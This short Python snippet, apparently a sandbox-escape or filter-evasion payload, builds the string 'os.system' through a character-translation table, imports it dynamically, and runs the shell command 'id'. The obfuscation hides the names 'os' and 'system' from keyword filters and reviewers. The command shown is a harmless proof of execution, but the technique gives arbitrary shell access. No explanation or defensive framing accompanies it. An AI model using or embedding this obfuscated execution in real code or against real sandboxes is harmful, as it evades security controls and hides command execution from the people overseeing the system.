table = str.maketrans("0123456", "osyte.m")
expression = "01.121346".translate(table)
module, name = expression.split(".")
getattr(__import__(module), name)("id")
